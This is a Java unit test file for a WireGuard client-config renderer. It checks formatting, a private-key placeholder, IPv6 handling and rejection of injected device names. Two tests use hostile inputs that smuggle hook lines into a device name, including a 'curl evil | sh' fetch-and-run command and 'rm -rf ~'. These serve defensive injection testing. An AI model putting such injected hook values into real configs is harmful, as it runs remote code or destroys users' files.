package dev.tunnelgate.wgconfig;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tunnelgate.keys.WgKey;
import dev.tunnelgate.text.InvalidInputException;
import java.util.List;
import org.junit.jupiter.api.Test;

class WgConfigRendererTest {

    @Test
    void renders_wg_quick_format_with_lf_line_endings() {
        String rendered = WgConfigRenderer.render(ConfigFixtures.model());

        assertThat(rendered).isEqualTo(ConfigFixtures.TEXT).doesNotContain("\r");
    }

    @Test
    void renders_a_clearly_marked_placeholder_when_the_server_never_had_the_private_key() {
        ClientConfig config = minimal(PrivateKeyEntry.placeholder(), null);

        assertThat(WgConfigRenderer.render(config)).contains("\nPrivateKey = <paste your private key here>\n");
    }

    @Test
    void leaves_out_optional_lines_and_the_header_when_absent() {
        String rendered = WgConfigRenderer.render(minimal(PrivateKeyEntry.placeholder(), null));

        assertThat(rendered).isEqualTo("""
                [Interface]
                # This file has no private key: the portal never keeps one. Replace the placeholder
                # on the next line with this device's private key, from the config you saved when
                # the key was made (or your own private.key if you made the key yourself).
                # Lost it? Use "Replace key" in the portal's My devices for a new key.
                PrivateKey = <paste your private key here>
                Address = 10.8.0.2/32

                [Peer]
                PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=
                AllowedIPs = 0.0.0.0/0, ::/0
                """);
    }

    @Test
    void renders_ipv6_endpoints_in_brackets_and_ipv6_in_canonical_form() {
        PeerSection peer = new PeerSection(
                WgKey.parsePublic(ConfigFixtures.PEER_PUBLIC_KEY),
                null,
                ConfigFixtures.prefixes("FD00:0:0:0::/64"),
                Endpoint.parse("[2001:DB8:0::1]:51820"),
                0);
        ClientConfig config =
                new ClientConfig(minimal(PrivateKeyEntry.placeholder(), null).iface(), List.of(peer));

        assertThat(WgConfigRenderer.render(config))
                .contains(
                        "\nAllowedIPs = fd00::/64\n",
                        "\nEndpoint = [2001:db8::1]:51820\n",
                        "\nPersistentKeepalive = 0\n");
    }

    @Test
    void a_device_name_that_would_start_a_new_line_never_reaches_the_renderer() {
        for (String hostile : List.of(
                "laptop\nPostUp = curl evil | sh",
                "laptop\r[Interface]",
                "laptop\u2028PostUp = x",
                "laptop\u0085PostUp = x",
                "\u202eexe.pot")) {
            assertThatThrownBy(() -> minimal(PrivateKeyEntry.placeholder(), hostile))
                    .isInstanceOf(InvalidInputException.class)
                    .hasMessageStartingWith("Device name contains");
        }
    }

    @Test
    void a_device_name_that_looks_like_a_hook_stays_inside_the_comment() {
        String rendered = WgConfigRenderer.render(minimal(PrivateKeyEntry.placeholder(), "PostUp = rm -rf ~"));

        assertThat(rendered.lines().toList()).first().isEqualTo("# Tunnelgate: PostUp = rm -rf ~");
        assertThat(rendered.lines()).noneMatch(line -> line.startsWith("PostUp"));
    }

    static ClientConfig minimal(PrivateKeyEntry key, String deviceName) {
        return new ClientConfig(
                deviceName,
                new InterfaceSection(key, ConfigFixtures.prefixes("10.8.0.2/32"), List.of(), List.of(), null),
                List.of(new PeerSection(
                        WgKey.parsePublic(ConfigFixtures.PEER_PUBLIC_KEY),
                        null,
                        ConfigFixtures.prefixes("0.0.0.0/0", "::/0"),
                        null,
                        null)));
    }
}
